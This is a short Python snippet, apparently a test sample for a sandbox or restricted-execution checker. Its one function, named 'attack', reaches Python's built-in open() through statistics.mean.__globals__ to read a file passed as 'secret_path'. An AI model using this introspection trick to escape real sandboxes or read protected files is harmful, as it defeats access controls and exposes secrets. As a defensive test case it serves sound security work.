# Takes the globals of a library function.
from statistics import mean


def attack(secret_path):
    return mean.__globals__["__builtins__"]["open"](secret_path).read()
